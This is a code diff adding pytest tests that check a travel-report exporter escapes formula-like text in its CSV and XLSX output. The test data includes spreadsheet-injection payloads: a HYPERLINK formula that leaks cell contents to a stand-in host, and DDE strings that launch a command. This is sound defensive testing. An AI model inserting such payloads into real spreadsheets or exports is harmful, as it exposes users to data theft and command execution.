@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
 from datetime import UTC, date, datetime
 from pathlib import Path
 
@@ -224,3 +225,54 @@ def test_cli_export_reads_the_store(tmp_path: Path, monkeypatch: pytest.MonkeyPa
     out = tmp_path / "overzicht.txt"
     assert main(["export", "--year", "2025", "--out", str(out), "--format", "csv"]) == 0
     assert out.read_bytes() == export_csv(REPORTS)
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Jan")',
+    "+31 70 353 3000",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def hostile_report(text: str, index: int) -> Report:
+    """The Paris flight with `text` typed as name, department, place and justification."""
+    place = Place(name=text, country="Frankrijk", country_code="FR", latitude=48.85, longitude=2.35)
+    return paris_flight().model_copy(
+        update={
+            "report_id": f"hostile-{index}",
+            "traveller": Traveller(name=text, department=text),
+            "destinations": [place],
+            "justification": text,
+        }
+    )
+
+
+def test_xlsx_keeps_formula_like_text_as_text_in_every_sheet() -> None:
+    raw = export_xlsx([hostile_report(text, i) for i, text in enumerate(HOSTILE)], 2025)
+    book = load_workbook(io.BytesIO(raw))
+    seen: list[object] = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
+                if cell.value in HOSTILE:
+                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
+                    seen.append(cell.value)
+    assert set(seen) == set(HOSTILE)  # shown exactly as typed, not altered
+    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
+        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
+
+
+def test_csv_prefixes_formula_like_text_with_a_quote_the_owasp_rule() -> None:
+    content = export_csv([hostile_report(text, i) for i, text in enumerate(HOSTILE)])
+    table = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
+    for row in table[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    names = sorted(row[0] for row in table[1:])
+    assert names == sorted(f"'{text}" for text in HOSTILE)
+    assert table[1][9:11] != [] and not table[1][10].startswith("'")  # numbers stay numbers
